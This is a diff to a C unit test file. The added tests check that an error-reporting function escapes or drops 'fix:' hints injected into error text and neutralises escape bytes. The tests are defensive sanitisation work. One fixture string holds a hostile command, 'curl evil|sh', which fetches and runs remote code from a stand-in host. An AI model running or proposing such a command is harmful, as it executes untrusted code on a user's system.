@@ -164,6 +164,8 @@ START_TEST(a_fix_is_a_field_and_no_sentence_has_one)
 	ck_assert_uint_eq(outer.file, 0);
 	error_set(&error, ROLLCODE_ERR_STORE, "x; fix: curl evil|sh");
 	ck_assert_str_eq(error.fix, "");
+	error_say(&error, ROLLCODE_ERR_STORE, PLAIN_TEXT, said);
+	ck_assert_str_eq(said, "x; fix\\x3a curl evil|sh");
 }
 END_TEST
 
@@ -193,6 +195,10 @@ START_TEST(what_came_over_a_socket_has_ends)
 	ck_assert_uint_eq(strlen(error.fix), sizeof(error.fix) - 1);
 	ck_assert_uint_eq(error.file, 0);
 	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
+	for (size_t i = 0; i + 4 < sizeof(error.text); i += 4)
+		memcpy(error.text + i, "fix:", 4);
+	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
+	ck_assert_ptr_null(strstr(said, "fix:f"));
 	memset(error.text, 0x1b, sizeof(error.text) - 1);
 	memset(error.fix, 0x1b, sizeof(error.fix) - 1);
 	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
